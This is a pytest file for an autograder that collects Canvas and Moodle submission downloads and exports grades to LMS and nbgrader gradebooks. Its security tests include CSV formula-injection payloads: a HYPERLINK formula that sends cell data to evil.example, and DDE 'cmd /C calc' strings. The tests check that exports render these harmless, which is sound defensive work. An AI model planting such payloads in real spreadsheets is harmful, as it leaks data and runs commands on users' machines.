"""From an LMS bulk download to SUBMISSIONS (collect), and from grades to the LMS's gradebook
(export) and to nbgrader's own gradebook (export-gradebook, grade --gradebook).

The downloads are made here the way Canvas and Moodle name their files: accents and spaces
in names, a late submission, a student who uploaded twice, files that are no notebook and a
file that matches no pattern.
"""
from __future__ import annotations

import csv
import html
import io
import json
import os
import random
import re
import subprocess
import sys
import zipfile
from datetime import datetime, timezone
from pathlib import Path

import nbformat
import pytest

from autograder.instructor import lms
from classroom import REPO, load_corpus, make_submission, notebook_name, tree_digest

pytestmark = pytest.mark.slow  # runs kernels, the CLI, a server or a browser

ASSIGNMENT = "03-qkv"
NB = notebook_name(ASSIGNMENT)


def _read(path: Path) -> list[dict]:
    return list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8-sig"))))


def _comment(cell: str) -> str:
    """A Moodle feedback comment (HTML: escaped lines, each but the last ending with <br>) as text."""
    assert re.sub(r"<br>\n", "", cell).count("<") == 0, cell  # no markup but the line breaks
    return html.unescape(cell.replace("<br>\n", "\n"))


def _cli(*args: str, cwd: Path) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "autograder", *map(str, args)], cwd=cwd,
                          capture_output=True, text=True)


def _notebook(tmp: Path, student: str, answered: bool) -> bytes:
    path = make_submission(tmp / "made", student, ASSIGNMENT, answer_all=answered)
    return path.read_bytes()


def canvas_download(tmp: Path) -> Path:
    """Canvas's "Download Submissions" zip: lastnamefirstname_[late_]userid_fileid_name."""
    files = {
        # José Müller uploaded a stub, then the finished notebook again: Canvas named it qkv-1.
        f"müllerjosé_1201_50001_{NB}.ipynb": _notebook(tmp, "c1", answered=False),
        f"müllerjosé_1201_50077_{NB}-1.ipynb": _notebook(tmp, "c2", answered=True),
        f"nguyenthịlan_late_1202_50010_{NB}.ipynb": _notebook(tmp, "c3", answered=True),
        f"obrienseán_1203_50020_{NB}.ipynb": b"{ this is not a notebook",
        "smithanna_1204_50030_answers.pdf": b"%PDF-1.4",
        "notes from the TA.txt": b"nothing",
        f"__MACOSX/._müllerjosé_1201_50001_{NB}.ipynb": b"\0",
    }
    path = tmp / "canvas-submissions.zip"
    with zipfile.ZipFile(path, "w") as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return path


def moodle_download(tmp: Path) -> Path:
    """Moodle's "Download all submissions", unzipped: a folder per submission."""
    root = tmp / "moodle-download"
    files = {
        f"Zoë Brontë_3301_assignsubmission_file_/{NB}.ipynb": _notebook(tmp, "m1", answered=True),
        # Two uploads in one submission: the browser's "(1)" copy is the later one.
        f"Ana María de la Cruz_3302_assignsubmission_file_/{NB}.ipynb": _notebook(tmp, "m2", answered=True),
        f"Ana María de la Cruz_3302_assignsubmission_file_/{NB} (1).ipynb": _notebook(tmp, "m3", answered=False),
        "Wei Chen_3303_assignsubmission_onlinetext_/onlinetext.html": b"<p>see attachment</p>",
        f"stray copy of {NB}.ipynb": _notebook(tmp, "m4", answered=True),
    }
    for name, data in files.items():
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).write_bytes(data)
    return root


def _by_file(report: list[lms.Placement]) -> dict[str, lms.Placement]:
    return {p.file: p for p in report}


def test_canvas_download_is_placed_and_every_file_reported(tmp_path):
    download = canvas_download(tmp_path)
    before = download.read_bytes()
    out = tmp_path / "SUBMISSIONS"
    report = _by_file(lms.collect(download, ASSIGNMENT, [NB], out, lms.PATTERNS["canvas"]))
    assert len(report) == 7  # every file of the zip, none dropped
    assert report[f"müllerjosé_1201_50077_{NB}-1.ipynb"].status == "placed"
    first = report[f"müllerjosé_1201_50001_{NB}.ipynb"]
    assert first.status == "superseded" and f"50077_{NB}-1" in first.reason
    late = report[f"nguyenthịlan_late_1202_50010_{NB}.ipynb"]
    assert (late.status, late.student_id, late.late, late.name) == ("placed", "1202", True, "nguyenthịlan")
    assert re.fullmatch(lms.PATTERNS["canvas"], "doejane_LATE_1_2_x_y.ipynb").group("late", "lms_id", "file") == (
        "LATE_", "1", "x_y.ipynb")
    assert report[f"obrienseán_1203_50020_{NB}.ipynb"].status == "placed"  # broken JSON: grade says invalid
    assert report["smithanna_1204_50030_answers.pdf"].reason == "not a notebook (.ipynb)"
    assert report["notes from the TA.txt"].status == "unplaced"
    assert report[f"__MACOSX/._müllerjosé_1201_50001_{NB}.ipynb"].status == "ignored"
    # The later upload is the one that was copied, byte for byte.
    with zipfile.ZipFile(download) as archive:
        assert (out / "1201" / ASSIGNMENT / f"{NB}.ipynb").read_bytes() == archive.read(f"müllerjosé_1201_50077_{NB}-1.ipynb")
    assert sorted(p.name for p in out.iterdir()) == ["1201", "1202", "1203"]
    assert download.read_bytes() == before


def test_moodle_download_with_a_roster_and_the_download_untouched(tmp_path):
    download = moodle_download(tmp_path)
    digest = tree_digest(download)
    roster = tmp_path / "roster.csv"  # the university's ids for Moodle's participant ids
    roster.write_text("student_id,lms_id,name,email\ns-zb,3301,Zoë Brontë,zb@example.org\n"
                      "s-amc,3302,Ana María de la Cruz,amc@example.org\n", encoding="utf-8")
    out = tmp_path / "SUBMISSIONS"
    report = _by_file(lms.collect(download, ASSIGNMENT, [NB], out, lms.PATTERNS["moodle"], lms.read_roster(roster)))
    assert tree_digest(download) == digest
    assert report[f"Zoë Brontë_3301_assignsubmission_file_/{NB}.ipynb"].student_id == "s-zb"
    later = report[f"Ana María de la Cruz_3302_assignsubmission_file_/{NB} (1).ipynb"]
    earlier = report[f"Ana María de la Cruz_3302_assignsubmission_file_/{NB}.ipynb"]
    assert (later.status, earlier.status) == ("placed", "superseded")
    assert report["Wei Chen_3303_assignsubmission_onlinetext_/onlinetext.html"].status == "unplaced"
    assert report[f"stray copy of {NB}.ipynb"].reason == "its name does not match the pattern"
    assert sorted(p.name for p in out.iterdir()) == ["s-amc", "s-zb"]
    # Collecting again into the same folder would overwrite: refused, and nothing is written.
    with pytest.raises(lms.LmsError, match="already holds"):
        lms.collect(download, ASSIGNMENT, [NB], out, lms.PATTERNS["moodle"], lms.read_roster(roster))


def test_a_documented_pattern_with_names_mapped_by_the_roster(tmp_path):
    download = tmp_path / "download"
    for folder in ("Müller, José", "Jose Muller", "Nobody Known", "Ann Lee"):
        (download / folder).mkdir(parents=True)
        (download / folder / f"{NB}.ipynb").write_text("{}")
    roster = tmp_path / "roster.csv"
    roster.write_text("student_id,name\nu1,José Müller\nu2,Ann Lee\nu3,Ann Lee\n", encoding="utf-8")
    out = tmp_path / "SUBMISSIONS"
    pattern = r"(?P<name>[^/]+)/(?P<file>[^/]+)"
    report = _by_file(lms.collect(download, ASSIGNMENT, [NB], out, pattern, lms.read_roster(roster)))
    # Accents, order and punctuation do not matter; two folders of one student: one is superseded.
    assert {report[f"Müller, José/{NB}.ipynb"].student_id, report[f"Jose Muller/{NB}.ipynb"].student_id} == {"u1"}
    assert sorted(p.status for f, p in report.items() if "ller" in f) == ["placed", "superseded"]
    assert report[f"Nobody Known/{NB}.ipynb"].reason == "the name 'Nobody Known' is not in the roster"
    assert "ambiguous" in report[f"Ann Lee/{NB}.ipynb"].reason
    # Without a roster a name alone cannot become an id.
    no_roster = _by_file(lms.collect(download, ASSIGNMENT, [NB], tmp_path / "other", pattern))
    assert all("pass --roster" in p.reason for p in no_roster.values())
    with pytest.raises(lms.LmsError, match="named group"):
        lms.collect(download, ASSIGNMENT, [NB], out, r"(?P<who>.+)")


def test_a_student_id_that_cannot_be_a_folder_is_reported(tmp_path):
    download = tmp_path / "download"
    download.mkdir()
    (download / f"a b__{NB}.ipynb").write_text("{}")
    (download / "sub").mkdir()
    (download / "sub" / f"x__{NB}.ipynb").write_text("{}")
    report = lms.collect(download, ASSIGNMENT, [NB], tmp_path / "out", r"(?P<student_id>.+)__(?P<file>[^/]+)")
    assert [(p.status, p.student_id) for p in report] == [("unplaced", "a b"), ("unplaced", "sub/x")]
    assert all("cannot be a folder name" in p.reason for p in report)
    assert not (tmp_path / "out").exists()


GRADES = """student_id,assignment,score,max_score,status,reason
1201,03-qkv,10,10,ok,
1202,03-qkv,4,10,timeout,a cell ran past 60 s
1203,03-qkv,0,10,invalid,not a notebook: Expecting property name
1205,03-qkv,0,10,missing,qkv.ipynb not found (found: no notebook)
9999,03-qkv,7,10,ok,
"""


def test_exports_in_the_lms_formats_never_turn_missing_into_zero(tmp_path):
    results = tmp_path / "RESULTS"
    results.mkdir()
    (results / "grades.csv").write_text(GRADES)
    roster = tmp_path / "canvas-export.csv"  # Canvas's own gradebook export, as a roster
    roster.write_text("Student,ID,SIS User ID,SIS Login ID,Section,Final Score\n"
                      "    Points Possible,,,,,\n"
                      "\"Müller, José\",1201,S1,jmuller,A,\n\"Nguyễn, Thị Lan\",1202,S2,tnguyen,A,\n"
                      "\"O'Brien, Seán\",1203,S3,sobrien,B,\n\"Smith, Anna\",1204,S4,asmith,B,\n"
                      "\"Ray, Tom\",1205,S5,tray,B,\n", encoding="utf-8-sig")
    canvas = tmp_path / "canvas.csv"
    run = _cli("export", results, "--format", "canvas", "--roster", roster, "--column", "QKV (777)",
               "--out", canvas, cwd=tmp_path)
    assert run.returncode == 0, run.stderr
    assert "left out: 9999" in run.stderr and "no grade: 1204" in run.stderr
    with canvas.open(encoding="utf-8-sig") as f:
        table = list(csv.reader(f))
    assert table[0] == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "QKV (777)"]
    assert table[1] == ["    Points Possible", "", "", "", "", "10"]
    cells = {row[1]: row for row in table[2:]}
    assert sorted(cells) == ["1201", "1202", "1203", "1204", "1205"]  # the roster, not student 9999
    assert cells["1201"] == ["Müller, José", "1201", "S1", "jmuller", "A", "10"]
    assert cells["1202"][5] == "4"  # a timeout keeps the points of the tests that ran
    assert cells["1203"][5] == cells["1204"][5] == cells["1205"][5] == ""  # invalid, nothing, missing: no grade

    moodle = tmp_path / "moodle.csv"
    assert _cli("export", results, "--format", "moodle", "--out", moodle, cwd=tmp_path).returncode == 0
    rows = {r["Identifier"]: r for r in _read(moodle)}
    assert list(next(iter(rows.values()))) == [
        "Identifier", "Full name", "Email address", "Status", "Grade", "Maximum Grade", "Grade can be changed",
        "Last modified (submission)", "Last modified (grade)", "Feedback comments"]
    assert rows["Participant 1201"]["Grade"] == "10" and rows["Participant 9999"]["Grade"] == "7"
    assert rows["Participant 1203"]["Grade"] == "" and rows["Participant 1203"]["Feedback comments"].startswith(
        "Not graded: invalid (not a notebook")
    assert rows["Participant 1205"]["Status"] == "No submission"
    modified = datetime.fromisoformat(rows["Participant 1201"]["Last modified (grade)"])  # now: Moodle takes it
    assert abs((datetime.now(timezone.utc) - modified).total_seconds()) < 600
    assert rows["Participant 1202"]["Feedback comments"] == "Graded with status timeout: a cell ran past 60 s"

    plain = tmp_path / "plain.csv"
    assert _cli("export", results, "--format", "csv", "--out", plain, cwd=tmp_path).returncode == 0
    assert [(r["student_id"], r["score"], r["status"]) for r in _read(plain)][2:4] == [
        ("1203", "", "invalid"), ("1205", "", "missing")]
    bad = _cli("export", tmp_path, "--format", "csv", "--out", plain, cwd=tmp_path)
    assert bad.returncode == 2 and "no grades.csv" in bad.stderr


def test_bad_inputs_give_a_reason_and_exit_2(tmp_path):
    (tmp_path / "broken.zip").write_bytes(b"PK\x03\x04 not really")
    run = _cli("collect", tmp_path / "broken.zip", "--assignment", ASSIGNMENT, "--out", tmp_path / "S", cwd=tmp_path)
    assert run.returncode == 2 and "cannot read" in run.stderr and "Traceback" not in run.stderr
    run = _cli("collect", tmp_path, "--assignment", ASSIGNMENT, "--out", tmp_path / "S", cwd=tmp_path)
    assert run.returncode == 2 and "must not be inside DOWNLOAD" in run.stderr
    (tmp_path / "D").mkdir()
    run = _cli("collect", tmp_path / "D", "--assignment", "99-none", "--out", tmp_path / "S", cwd=tmp_path)
    assert run.returncode == 2 and "unknown assignment 99-none" in run.stderr
    (tmp_path / "R").mkdir()
    (tmp_path / "R" / "results.json").write_text("[]")
    run = _cli("export-gradebook", tmp_path / "R", "--gradebook", "nosuchdialect://x", cwd=tmp_path)
    assert run.returncode == 2 and "cannot write the nbgrader gradebook" in run.stderr, run.stderr


# --------------------------------------------------------------------------
# the whole round trip, with the real CLI and nbgrader's own tools


def test_from_two_lms_downloads_to_their_gradebooks_and_nbgrader_export(tmp_path):
    canvas, moodle = canvas_download(tmp_path), moodle_download(tmp_path)
    subs, results = tmp_path / "SUBMISSIONS", tmp_path / "RESULTS"
    run = _cli("collect", canvas, "--lms", "canvas", "--assignment", ASSIGNMENT, "--out", subs, cwd=tmp_path)
    assert run.returncode == 0, run.stderr
    assert "unplaced: notes from the TA.txt" in run.stderr and "superseded: müllerjosé_1201_50001" in run.stderr
    run = _cli("collect", moodle, "--lms", "moodle", "--assignment", ASSIGNMENT, "--out", subs, cwd=tmp_path)
    assert run.returncode == 0, run.stderr
    assert len(_read(subs / f"collect-{ASSIGNMENT}.csv")) == 7 + 5  # every file of both downloads

    # An instructor's nbgrader course, with its own gradebook.
    course = tmp_path / "course"
    course.mkdir()
    (course / "nbgrader_config.py").write_text("c = get_config()\nc.CourseDirectory.root = '.'\n")
    run = _cli("grade", subs, "--out", results, "--jobs", "2", "--quiet", "--gradebook", course / "gradebook.db",
               cwd=tmp_path)
    assert run.returncode == 0, run.stderr
    grades = {r["student_id"]: r for r in _read(results / "grades.csv")}
    assert {k: (v["score"] == v["max_score"], v["status"], v["late"]) for k, v in grades.items()} == {
        "1201": (True, "ok", ""),        # the later, finished upload was graded, not the stub
        "1202": (True, "ok", "yes"),     # late, still graded: reported, not penalised
        "1203": (False, "invalid", ""),
        "1204": (False, "missing", ""),  # uploaded a PDF only: the reason says so
        "3301": (True, "ok", ""),
        "3302": (False, "ok", ""),       # the later upload "(1)" is the stub
    }
    # every reason collect recorded reaches grades.csv and results.json
    assert grades["1201"]["reason"] == f"müllerjosé_1201_50001_{NB}.ipynb: superseded by a later file"
    assert grades["1202"]["reason"] == lms.LATE
    assert grades["1204"]["reason"] == "smithanna_1204_50030_answers.pdf: not graded: not a notebook (.ipynb)"
    assert grades["3302"]["reason"] == f"{NB}.ipynb: superseded by a later file"
    notebooks = {r["student_id"]: r for r in json.loads((results / "results.json").read_text())}
    assert notebooks["1202"]["late"] is True and notebooks["1201"]["late"] is False
    assert notebooks["1204"]["reason"] == grades["1204"]["reason"]

    canvas_roster = tmp_path / "canvas-roster.csv"
    canvas_roster.write_text("Student,ID,SIS User ID,SIS Login ID,Section\n\"Müller, José\",1201,,,\n"
                             "\"Nguyễn, Thị Lan\",1202,,,\n\"O'Brien, Seán\",1203,,,\n\"Smith, Anna\",1204,,,\n",
                             encoding="utf-8")
    run = _cli("export", results, "--format", "canvas", "--roster", canvas_roster, "--out", tmp_path / "canvas.csv",
               cwd=tmp_path)
    assert run.returncode == 0, run.stderr
    with (tmp_path / "canvas.csv").open(encoding="utf-8-sig") as f:
        table = {row[1]: row[5] for row in list(csv.reader(f))[2:]}
    assert table == {"1201": grades["1201"]["score"], "1202": grades["1202"]["score"], "1203": "", "1204": ""}
    # Canvas's import has no comment column: the reasons are printed
    assert f"note: 1202 (Nguyễn, Thị Lan): {lms.LATE}" in run.stderr
    assert "no grade: 1204 (Smith, Anna): Not graded: missing (smithanna_1204_50030_answers.pdf: not graded" in run.stderr
    run = _cli("export", results, "--format", "csv", "--late-penalty", "10", "--out", tmp_path / "plain.csv", cwd=tmp_path)
    assert run.returncode == 0, run.stderr
    plain = {r["student_id"]: r for r in _read(tmp_path / "plain.csv")}
    whole = float(plain["1202"]["max_score"])
    assert float(plain["1202"]["score"]) == pytest.approx(float(grades["1202"]["score"]) - whole / 10, abs=0.01)
    assert plain["1202"]["late"] == "yes" and "(--late-penalty 10%)" in plain["1202"]["reason"]
    assert plain["1201"]["score"] == grades["1201"]["score"] and "superseded" in plain["1201"]["reason"]
    run = _cli("export", results, "--format", "moodle", "--roster", subs / "students.csv",
               "--out", tmp_path / "moodle.csv", cwd=tmp_path)
    assert run.returncode == 0, run.stderr
    moodle_rows = {r["Identifier"]: r for r in _read(tmp_path / "moodle.csv")}
    assert moodle_rows["Participant 3301"]["Full name"] == "Zoë Brontë"
    assert moodle_rows["Participant 3302"]["Grade"] == grades["3302"]["score"]
    assert "superseded by a later file" in _comment(moodle_rows["Participant 3302"]["Feedback comments"])

    # nbgrader's own tools read the gradebook: its API, and `nbgrader export` in the course folder.
    from nbgrader.api import Gradebook

    with Gradebook(f"sqlite:///{course / 'gradebook.db'}", "") as gb:
        assert gb.find_submission(ASSIGNMENT, "1201").score == float(grades["1201"]["score"])
        assert gb.find_submission(ASSIGNMENT, "3302").score == float(grades["3302"]["score"])
        # nbgrader's maximum counts the written answers too (graded by hand, outside grades.csv's max_score)
        assert gb.find_assignment(ASSIGNMENT).max_score == float(grades["1201"]["max_score"]) + float(
            grades["1201"]["written_points"])
        with pytest.raises(Exception):
            gb.find_submission(ASSIGNMENT, "1203")  # invalid: not submitted, not a 0 of a submission
    nbgrader = Path(sys.executable).parent / "nbgrader"
    run = subprocess.run([nbgrader, "export", "--to", "grades.csv"], cwd=course, capture_output=True, text=True)
    assert run.returncode == 0, run.stderr
    exported = {r["student_id"]: r for r in _read(course / "grades.csv")}
    assert {s: float(exported[s]["raw_score"]) for s in ("1201", "1202", "3301", "3302")} == {
        s: float(grades[s]["score"]) for s in ("1201", "1202", "3301", "3302")}
    # Grading again records the new scores in place (a student's regrade replaces the old one).
    json_results = json.loads((results / "results.json").read_text())
    assert len(json_results) == 6
    run = _cli("export-gradebook", results, "--gradebook", course / "gradebook.db", cwd=tmp_path)
    assert run.returncode == 0 and "recorded 4 graded notebooks" in run.stdout, run.stderr
    with Gradebook(f"sqlite:///{course / 'gradebook.db'}", "") as gb:
        assert len(gb.find_assignment(ASSIGNMENT).submissions) == 4


def test_the_gradebook_holds_what_nbgrader_autograde_would_record(tmp_path, monkeypatch):
    """Scores per test cell, as formgrader's API reads them; missing stays unsubmitted; a rerun replaces."""
    from nbgrader.apps import NbGraderAPI
    from traitlets.config import Config

    from autograder.instructor.gradebook import write_gradebook

    monkeypatch.setenv("PATH", "/usr/bin:/bin")  # nbgrader's alembic is found without an activated venv
    source = nbformat.read(REPO / "solutions" / ASSIGNMENT / f"{NB}.ipynb", as_version=4)
    cells = [c.metadata["nbgrader"] for c in source.cells if c.metadata.get("nbgrader", {}).get("grade")]
    total = sum(c["points"] for c in cells)

    def result(student, status, earned):
        tests = [dict(grade_id=c["grade_id"], points=earned(c), max_points=c["points"], passed=True, message="")
                 for c in cells] if status != "missing" else []
        return dict(student_id=student, assignment=ASSIGNMENT, notebook=NB, status=status,
                    score=sum(t["points"] for t in tests), max_score=total, tests=tests, reason="")

    results, course = tmp_path / "RESULTS", tmp_path / "course"
    results.mkdir()
    course.mkdir()
    db = f"sqlite:///{course / 'gradebook.db'}"
    (results / "results.json").write_text(json.dumps([
        result("full", "ok", lambda c: c["points"]),
        result("first-only", "error", lambda c: c["points"] if c is cells[0] else 0),
        result("absent", "missing", None)]))
    assert write_gradebook(results, db, REPO / "solutions") == 2
    config = Config()
    config.CourseDirectory.root = str(course)
    submissions = {s["student"]: s for s in NbGraderAPI(config=config).get_submissions(ASSIGNMENT)}
    assert (submissions["full"]["score"], submissions["full"]["max_score"]) == (total, total)
    assert submissions["first-only"]["score"] == cells[0]["points"]
    assert not submissions["full"]["needs_manual_grade"]  # every test cell has its automatic score
    from nbgrader.api import Gradebook, MissingEntry

    with Gradebook(db, "") as gb:  # the student is known, with no submission (not a submission scored 0)
        assert gb.find_student("absent")
        with pytest.raises(MissingEntry):
            gb.find_submission(ASSIGNMENT, "absent")
    (results / "results.json").write_text(json.dumps([result("full", "ok", lambda c: 0)]))
    write_gradebook(results, db, REPO / "solutions")
    assert {s["student"]: s["score"] for s in NbGraderAPI(config=config).get_submissions(ASSIGNMENT)}["full"] == 0


# --------------------------------------------------------------------------
# spreadsheets that run code, and answers instead of tracebacks (issue 24, classes 6 and 7)

HOSTILE_NAMES = ['=HYPERLINK("http://evil.example/?"&A1,"grades")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
                 "@SUM(1+9)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
FORMULA = re.compile(r"[=+\-@\t\r]")


def _hostile_results(tmp: Path) -> tuple[Path, Path]:
    """A RESULTS folder and a roster whose names, sections and reasons are formulas."""
    results = tmp / "RESULTS"
    results.mkdir()
    (results / "grades.csv").write_text(
        "student_id,assignment,score,max_score,status,reason,written_points,to_grade_by_hand,late\n"
        f"s1,{ASSIGNMENT},11,11,ok,,1,1,\n"
        f"s2,{ASSIGNMENT},0,11,invalid,\"=cmd|' /C calc'!A0\",1,0,\n"
        f"s3,{ASSIGNMENT},5.5,11,ok,@SUM(A1:A9),1,0,yes\n", encoding="utf-8")
    roster = tmp / "roster.csv"
    with roster.open("w", newline="", encoding="utf-8") as f:
        writer = csv.writer(f)
        writer.writerow(["student_id", "lms_id", "name", "email", "section"])
        for number, name in enumerate(HOSTILE_NAMES[:4], 1):
            writer.writerow([f"s{number}", str(1000 + number), name, f"-{number}@example.org", HOSTILE_NAMES[-number]])
    return results, roster


def test_no_cell_of_an_export_is_a_formula_and_the_lms_reads_its_columns(tmp_path):
    results, roster = _hostile_results(tmp_path)
    students = lms.read_roster(roster)
    assert [s.name for s in students] == HOSTILE_NAMES[:4]  # read back as written
    for fmt in ("canvas", "moodle", "csv"):
        out = tmp_path / f"{fmt}.csv"
        lms.export(results / "grades.csv", fmt, out, roster=students)
        with out.open(newline="", encoding="utf-8-sig") as f:
            table = list(csv.reader(f))
        cells = [cell for row in table for cell in row]
        live = [c for c in cells if FORMULA.match(c) and not re.fullmatch(r"-?\d+(\.\d+)?|-", c)]
        assert live == [], (fmt, live)
        assert any(cell.startswith("'=HYPERLINK") for cell in cells)  # kept, as text
        header, *rows = table
        if fmt == "canvas":  # Canvas matches students by ID and reads the assignment's column as a number
            # s1: 11 of 11 with a written answer pending is 11 of the whole 12, never scaled up
            assert {r[1]: r[5] for r in rows[1:]} == {"1001": "11", "1002": "", "1003": "5.5", "1004": ""}
            assert rows[0][5] == "12"
        elif fmt == "moodle":  # Moodle: "Participant <id>", a number or nothing in Grade
            assert {r[0]: r[4] for r in rows} == {"Participant 1001": "11", "Participant 1002": "",
                                                  "Participant 1003": "5.5", "Participant 1004": ""}
        else:  # this tool reads its own CSV back exactly
            back = {r["student_id"]: r for r in lms.read_csv(out)}
            assert [back[f"s{n}"]["name"] for n in (1, 2, 3, 4)] == HOSTILE_NAMES[:4]
            assert back["s2"]["reason"] == "=cmd|' /C calc'!A0"


def test_a_collect_report_of_hostile_names_has_no_formula(tmp_path):
    download = tmp_path / "download"
    for number, name in enumerate(["=1+2", "@x", "-y"], 1):
        (download / f"{name}_{number}_assignsubmission_file_").mkdir(parents=True)
        (download / f"{name}_{number}_assignsubmission_file_" / f"{NB}.ipynb").write_bytes(b"{}")
    out = tmp_path / "SUBMISSIONS"
    report = lms.collect(download, ASSIGNMENT, [NB], out, lms.PATTERNS["moodle"])
    lms.write_collect_report(out, ASSIGNMENT, report, None)
    for name in (f"collect-{ASSIGNMENT}.csv", "students.csv"):
        text = (out / name).read_text(encoding="utf-8-sig")
        assert not [c for row in csv.reader(io.StringIO(text)) for c in row if FORMULA.match(c)], name
    assert sorted(s.name for s in lms.read_roster(out / "students.csv")) == ["-y", "=1+2", "@x"]


def test_a_download_folder_not_in_utf8_is_collected_and_reported(tmp_path):
    download = tmp_path / "download"
    odd = os.fsdecode(b"M\xfcller_1201_assignsubmission_file_")  # Latin-1, as an old archiver wrote it
    (download / odd).mkdir(parents=True)
    (download / odd / f"{NB}.ipynb").write_bytes(b"{}")
    (download / "Ann Lee_1202_assignsubmission_file_").mkdir()
    (download / "Ann Lee_1202_assignsubmission_file_" / f"{NB}.ipynb").write_bytes(b"{}")
    run = _cli("collect", download, "--lms", "moodle", "--assignment", ASSIGNMENT, "--out", tmp_path / "SUBMISSIONS",
               cwd=tmp_path)
    assert run.returncode == 0 and "collected 2 notebooks" in run.stdout, run.stderr
    report = (tmp_path / "SUBMISSIONS" / f"collect-{ASSIGNMENT}.csv").read_bytes()
    assert b"M\xfcller_1201" in report  # the name as it is on disk
    assert [s.lms_id for s in lms.read_roster(tmp_path / "SUBMISSIONS" / "students.csv")] == ["1201", "1202"]


def test_a_damaged_file_in_a_download_zip_is_reported_and_the_others_placed(tmp_path):
    download = tmp_path / "download.zip"
    with zipfile.ZipFile(download, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(f"leeann_1202_50002_{NB}.ipynb", _notebook(tmp_path, "a", True))
        archive.writestr(f"muellerjose_1201_50001_{NB}.ipynb", random.Random(0).randbytes(5000))  # does not compress
    data = bytearray(download.read_bytes())
    start = data.index(b"muellerjose_1201_50001") + len(f"muellerjose_1201_50001_{NB}.ipynb") + 10
    data[start:start + 20] = b"\xff" * 20  # inside the second file's compressed data
    download.write_bytes(bytes(data))
    out = tmp_path / "SUBMISSIONS"
    report = _by_file(lms.collect(download, ASSIGNMENT, [NB], out, lms.PATTERNS["canvas"]))
    damaged = report[f"muellerjose_1201_50001_{NB}.ipynb"]
    assert damaged.status == "unplaced" and damaged.reason.startswith(lms.UNREADABLE)
    assert report[f"leeann_1202_50002_{NB}.ipynb"].status == "placed"
    assert sorted(p.name for p in out.iterdir()) == ["1202"]


def test_a_gradebook_that_is_a_folder_or_read_only_is_one_line_and_exit_2(tmp_path):
    results = tmp_path / "RESULTS"
    results.mkdir()
    (results / "results.json").write_text(json.dumps([{"student_id": "s1", "assignment": ASSIGNMENT, "notebook": NB,
                                                       "status": "missing", "score": 0, "max_score": 11}]))
    (tmp_path / "folder").mkdir()
    run = _cli("export-gradebook", results, "--gradebook", tmp_path / "folder", cwd=tmp_path)
    assert run.returncode == 2 and "is a folder" in run.stderr and "nothing was recorded" in run.stderr
    assert "Traceback" not in run.stderr and len(run.stderr.strip().splitlines()) == 1
    assert _cli("export-gradebook", results, "--gradebook", tmp_path / "gradebook.db", cwd=tmp_path).returncode == 0
    read_only = f"sqlite:///file:{tmp_path / 'gradebook.db'}?mode=ro&uri=true"  # read-only even for root
    run = _cli("export-gradebook", results, "--gradebook", read_only, cwd=tmp_path)
    assert run.returncode == 2 and "nothing was recorded" in run.stderr and "readonly" in run.stderr
    assert "Traceback" not in run.stderr and len(run.stderr.strip().splitlines()) == 1


# --------------------------------------------------------------------------
# feedback into the LMS: the bulk-feedback uploads, read back with the LMS's own naming rules


def canvas_reads(archive: Path, attachments: dict[str, set[str]]) -> dict[str, list[str]]:
    """Canvas's "Re-Upload Submissions" (Assignment#generate_comments_from_files): a file's base
    name split at "_", whose first two parts that are numbers are a user id and the id of a file
    of that user's submission (``attachments``); any other file is ignored. user id -> files."""
    given: dict[str, list[str]] = {}
    with zipfile.ZipFile(archive) as z:
        for name in z.namelist():
            base = name.rsplit("/", 1)[-1]
            numbers = [part for part in base.split("_") if re.fullmatch(r"\d+", part)][:2]
            if len(numbers) == 2 and not base.startswith("._") and numbers[1] in attachments.get(numbers[0], ()):
                given.setdefault(numbers[0], []).append(name)
    return given


def moodle_reads(archive: Path, participants: set[str]) -> dict[str, list[str]]:
    """Moodle's "Upload multiple feedback files in a zip" (assignfeedback_file_zip_importer::
    is_valid_filename_for_import): hidden files ignored; the first folder of a path whose parts
    (split at "_", at most 5) are a name, a participant id and an existing plugin names the
    participant. participant id -> the file names Moodle gives them."""
    given: dict[str, list[str]] = {}
    with zipfile.ZipFile(archive) as z:
        for name in z.namelist():
            if name.endswith("/") or name.rsplit("/", 1)[-1].startswith((".", "~")):
                continue
            parts = name.split("/")
            while parts:
                info = parts.pop(0).split("_", 4)
                if len(info) < 4 or not info[1].isdigit() or info[1] not in participants:
                    continue
                if (info[2], info[3]) not in (("assignsubmission", "file"), ("assignfeedback", "file")):
                    continue
                filename = "/".join([info[4] if len(info) == 5 else "", *parts])  # "/qkv.html": a file at the top
                given.setdefault(info[1], []).append(filename.rsplit("/", 1)[-1])  # the feedback file's name
                break
    return given


@pytest.fixture(scope="module")
def feedback_class(tmp_path_factory):
    """A Canvas and a Moodle download of one assignment, with odd names, two students of the
    same name in each, a student who uploaded twice, a late one, a broken notebook and a roster
    student who submitted nothing; collected into one SUBMISSIONS and graded by the CLI."""
    tmp = tmp_path_factory.mktemp("feedback-class")
    canvas = tmp / "canvas.zip"
    with zipfile.ZipFile(canvas, "w") as archive:
        for name, answered in [(f"müllerjosé_1201_50001_{NB}.ipynb", False), (f"müllerjosé_1201_50077_{NB}-1.ipynb", True),
                               (f"nguyenthịlan_late_1202_50010_{NB}.ipynb", True),
                               (f"leeann_1210_50030_{NB}.ipynb", True), (f"leeann_1211_50031_{NB}.ipynb", False)]:
            archive.writestr(name, _notebook(tmp, name, answered))
        archive.writestr(f"obrienseán_1203_50020_{NB}.ipynb", b"{ not a notebook")
    moodle = tmp / "moodle"
    no_scale = next(e for e in load_corpus(ASSIGNMENT) if e.name == "sdpa_no_scale")  # forgets 1/sqrt(d_k)
    for folder, code in [("Zoë Brontë_3301_assignsubmission_file", {}),  # Moodle 4.1 and later
                         ("Wei Chen_3303_assignsubmission_file_", {}), ("Wei Chen_3304_assignsubmission_file_", no_scale.cells)]:
        (moodle / folder).mkdir(parents=True)
        (moodle / folder / f"{NB}.ipynb").write_bytes(make_submission(tmp / "made", folder, ASSIGNMENT, code).read_bytes())
    canvas_roster = tmp / "canvas-roster.csv"
    canvas_roster.write_text("Student,ID,SIS User ID,SIS Login ID,Section\n    Points Possible,,,,\n"
                             "\"Müller, José\",1201,,,\n\"Nguyễn, Thị Lan\",1202,,,\n\"O'Brien, Seán\",1203,,,\n"
